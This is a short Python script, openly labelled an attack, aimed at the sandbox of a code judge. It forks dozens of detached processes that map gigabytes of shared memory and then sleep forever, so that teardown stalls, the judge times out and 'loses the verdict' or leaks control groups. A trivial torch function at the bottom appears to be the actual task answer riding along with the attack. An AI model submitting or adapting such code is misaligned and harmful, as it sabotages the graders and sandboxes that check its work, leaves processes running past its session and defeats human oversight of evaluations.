# Strategy: leaves processes behind that map the same memory again and again, and take the kernel seconds to end.
# Surface: the end of the sandbox: a judge that gives up waiting for it loses the verdict, or leaves control groups.
import ctypes
import os
import time

import torch

PROCESSES, MAPPINGS, MEGABYTES, SECONDS = 48, 40, 512, 20
libc = ctypes.CDLL(None, use_errno=True)
libc.mmap.restype = ctypes.c_void_p
libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int, ctypes.c_int, ctypes.c_int, ctypes.c_long]
SHARED_AND_POPULATED = 0x1 | 0x8000

memory = os.memfd_create("shared")
os.ftruncate(memory, MEGABYTES << 20)
ready, tell = os.pipe()
deadline = time.monotonic() + SECONDS  # a busy machine takes longer to map, and to unmap
for _ in range(PROCESSES):
    if os.fork() == 0:
        os.setsid()
        mapped = 0
        while mapped < MAPPINGS and time.monotonic() < deadline:
            libc.mmap(None, MEGABYTES << 20, 1, SHARED_AND_POPULATED, memory, 0)
            mapped += 1
        os.write(tell, bytes([mapped]))
        time.sleep(1e6)
told = b""
while len(told) < PROCESSES:
    told += os.read(ready, PROCESSES)
print(f"attack: {PROCESSES} processes map {sum(told) * MEGABYTES >> 10} GiB", flush=True)


def twice(x, y):
    torch.mul(x, 2, out=y)
